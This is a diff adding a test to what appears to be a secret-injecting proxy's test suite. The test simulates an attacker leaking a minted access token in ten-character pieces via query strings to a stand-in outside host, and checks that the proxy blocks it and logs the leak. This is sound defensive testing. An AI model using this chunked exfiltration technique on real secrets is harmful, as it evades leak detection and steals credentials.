@@ -157,3 +157,25 @@ test('another question at the token endpoint is passed on as it is; a dead refre
   assert.ok(!JSON.stringify(bed.records).includes('hunter2'))
   assert.equal(bed.server('api.test').connections, 0)
 })
+
+test('attack: a token that was minted leaves in pieces', async (t) => {
+  const token = 'tok-a7Rk2Xq9Zt4Lm8Wc3Vb6Nf5Hj1PdGsYeQuTi'
+  const login: Handler = (_request, response) =>
+    void response.end(JSON.stringify({ access_token: token, expires_in: 3600 }))
+  const bed = await startBed(t, {
+    hosts: { 'login.test': login, 'api.test': {}, 'other.test': {} },
+    config: { secret_injection: [RULE] },
+    secrets: { LOGIN: GIVEN },
+  })
+  const { proxy, ca } = bed
+  assert.equal((await get('https://api.test/', { proxy, ca, headers: BEARER })).status, 200)
+  const statuses: number[] = []
+  for (const piece of token.match(/.{1,10}/g) ?? [])
+    statuses.push((await get(`https://other.test/?m=${piece}`, { proxy, ca })).status)
+  assert.deepEqual([statuses[0], statuses.includes(403)], [200, true])
+  assert.ok(
+    bed.records.some(
+      ({ code, reason }) => code === 'secret_literal' && reason.startsWith('secret LOGIN sent in pieces'),
+    ),
+  )
+})
